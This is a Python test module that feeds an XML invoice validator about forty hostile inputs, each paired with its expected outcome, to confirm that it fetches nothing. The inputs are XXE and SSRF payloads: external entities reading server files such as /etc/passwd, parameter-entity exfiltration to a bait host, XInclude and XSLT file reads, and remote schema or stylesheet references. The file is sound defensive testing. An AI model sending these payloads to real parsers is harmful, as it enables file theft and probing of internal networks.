"""Documents that ask their reader to fetch something: a file of the server, an address in its network."""

from tests.security.hostile.base import (
    ACCEPTED,
    FILE_BAIT,
    REJECTED,
    UBL,
    WEB_BAIT,
    Hostile,
    attached,
    before_root,
    extended,
    noted,
    on_root,
    put_text,
)
from tests.security.hostile.entities import declared

_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
_INVOICE = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"


def external(url: str) -> bytes:
    """An external entity."""
    return declared(f'<!ENTITY e SYSTEM "{url}">')


def wrong(attributes: str) -> bytes:
    """An invoice that the schema rejects, so that it is worded what is wrong, with hints where schemas are."""
    return put_text("<Invoice ", f"<Invoice {attributes} ", put_text("<cbc:ID>", "<cbc:Id>1</cbc:Id><cbc:ID>")).encode()


def stylesheet(body: str) -> bytes:
    """A stylesheet in place of the invoice."""
    return f'<xsl:stylesheet {_XSL} version="3.0">{body}</xsl:stylesheet>'.encode()


ROWS = (
    Hostile("an external entity: a file", "doctype", lambda: external(FILE_BAIT)),
    Hostile("an external entity: an address", "doctype", lambda: external(f"{WEB_BAIT}entity")),
    Hostile("an external entity: a device", "doctype", lambda: external("file:///dev/zero")),
    Hostile("an external entity: FTP", "doctype", lambda: external("ftp://bait.test/x")),
    Hostile("an external entity: Java's archives", "doctype", lambda: external("jar:http://bait.test/x!/y")),
    Hostile("an external entity: PHP's filters", "doctype", lambda: external("php://filter/resource=/etc/passwd")),
    Hostile("an external entity: UNC path", "doctype", lambda: external(r"\\bait.test\share\x")),
    Hostile("an external entity: a public name", "doctype", lambda: declared(
        f'<!ENTITY e PUBLIC "-//Bait//EN" "{WEB_BAIT}public">')),
    Hostile("an unparsed entity with a notation", "doctype", lambda: declared(
        f'<!NOTATION n SYSTEM "{WEB_BAIT}notation"><!ENTITY e SYSTEM "{WEB_BAIT}ndata" NDATA n>', "x")),
    Hostile("an external parameter entity", "doctype", lambda: declared(
        f'<!ENTITY % p SYSTEM "{WEB_BAIT}parameter">%p;', "x")),
    Hostile("a file sent out through a parameter entity", "doctype", lambda: declared(
        f'<!ENTITY % f SYSTEM "{FILE_BAIT}"><!ENTITY % d SYSTEM "{WEB_BAIT}dtd">%d;%send;', "x")),
    Hostile("an external DTD: a file", "doctype", lambda: before_root(f'<!DOCTYPE Invoice SYSTEM "{FILE_BAIT}">')),
    Hostile("an external DTD: an address", "doctype", lambda: before_root(f'<!DOCTYPE x SYSTEM "{WEB_BAIT}dtd">')),
    Hostile("an external DTD in UTF-16", "doctype", lambda: put_text("UTF-8", "UTF-16", before_root(
        f'<!DOCTYPE x SYSTEM "{WEB_BAIT}dtd16">').decode()).encode("utf-16")),
    Hostile("an XInclude of a file as text", REJECTED, lambda: extended(
        f'<xi:include {_XI} href="{FILE_BAIT}" parse="text"/>')),
    Hostile("an XInclude of an address as XML", ACCEPTED, lambda: extended(
        f'<xi:include {_XI} href="{WEB_BAIT}include"><xi:fallback>x</xi:fallback></xi:include>')),
    Hostile("an XInclude inside a value", REJECTED, lambda:
        noted(f'<xi:include {_XI} href="{FILE_BAIT}" parse="text"/>')),
    Hostile("an XInclude as the root", "wrong-root", lambda: f'<xi:include {_XI} href="{WEB_BAIT}root"/>'.encode()),
    Hostile("a schemaLocation: a file", ACCEPTED, lambda: on_root(
        f'{_XSI} xsi:schemaLocation="{_INVOICE} {FILE_BAIT}"')),
    Hostile("a schemaLocation: an address", ACCEPTED, lambda: on_root(
        f'{_XSI} xsi:schemaLocation="{_INVOICE} {WEB_BAIT}invoice.xsd"')),
    Hostile("a schemaLocation in an extension", ACCEPTED, lambda: extended(
        f'<a xmlns="urn:a" {_XSI} xsi:schemaLocation="urn:a {WEB_BAIT}a.xsd">x</a>')),
    Hostile("a noNamespaceSchemaLocation", ACCEPTED, lambda: on_root(
        f'{_XSI} xsi:noNamespaceSchemaLocation="{WEB_BAIT}none.xsd"')),
    Hostile("a schemaLocation on an invalid invoice", REJECTED, lambda: wrong(
        f'{_XSI} xsi:schemaLocation="urn:unknown {WEB_BAIT}unknown.xsd {_INVOICE} {WEB_BAIT}invoice.xsd"')),
    Hostile("a noNamespaceSchemaLocation on an invalid invoice", REJECTED, lambda: wrong(
        f'{_XSI} xsi:noNamespaceSchemaLocation="{FILE_BAIT}"')),
    Hostile("an xml-stylesheet instruction", ACCEPTED, lambda: before_root(
        f'<?xml-stylesheet type="text/xsl" href="{WEB_BAIT}sheet.xsl"?>')),
    Hostile("an xml-model instruction", ACCEPTED, lambda: before_root(f'<?xml-model href="{WEB_BAIT}model.rng"?>')),
    Hostile("a catalogue instruction", ACCEPTED, lambda: before_root(
        f'<?oasis-xml-catalog catalog="{WEB_BAIT}catalog.xml"?>')),
    Hostile("an xml:base on the root", REJECTED, lambda: on_root(f'xml:base="{WEB_BAIT}"')),
    Hostile("a stylesheet as invoice, with document()", "wrong-root", lambda: stylesheet(
        f"""<xsl:template match="/"><xsl:copy-of select="document('{WEB_BAIT}x'), unparsed-text('{FILE_BAIT}')"/>"""
        "</xsl:template>")),
    Hostile("a stylesheet as invoice, with an import", "wrong-root", lambda: stylesheet(
        f'<xsl:import href="{WEB_BAIT}import.xsl"/>')),
    Hostile("an invoice that is a simplified stylesheet", REJECTED, lambda: put_text(
        "<Invoice ", f'<Invoice {_XSL} xsl:version="3.0" ', noted(
            f"""<xsl:value-of select="unparsed-text('{FILE_BAIT}')"/>""").decode()).encode()),
    Hostile("a stylesheet in an extension", REJECTED, lambda: extended(stylesheet(
        f"""<xsl:variable name="x" select="doc('{WEB_BAIT}doc')"/>""").decode())),
    Hostile("a schema as invoice, with imports", "wrong-root", lambda: (
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="{WEB_BAIT}x.xsd"/>'
        "</xs:schema>").encode()),
    Hostile("a reference to a file of the server (BT-124)", ACCEPTED, lambda: attached(
        "QUJD", more=f"<cac:ExternalReference><cbc:URI>{FILE_BAIT}</cbc:URI></cac:ExternalReference>")),
    Hostile("a reference to an inner address (BT-124)", ACCEPTED, lambda: attached(
        "QUJD", more=f"<cac:ExternalReference><cbc:URI>{WEB_BAIT}metadata</cbc:URI></cac:ExternalReference>")),
    Hostile("an address in place of the attachment", REJECTED, lambda: attached(WEB_BAIT)),
    Hostile("SVG and HTML that load something", REJECTED, lambda: extended(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{WEB_BAIT}image"/></svg>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><iframe src="{FILE_BAIT}"/></html>')),
    Hostile("an address in the namespace", ACCEPTED, lambda: on_root(f'xmlns:bait="{WEB_BAIT}namespace"')),
    Hostile("an address as specification identifier (BT-24)", "no-scenario", lambda: put_text(
        "urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0", f"{WEB_BAIT}spec", UBL).encode()),
)  # fmt: skip
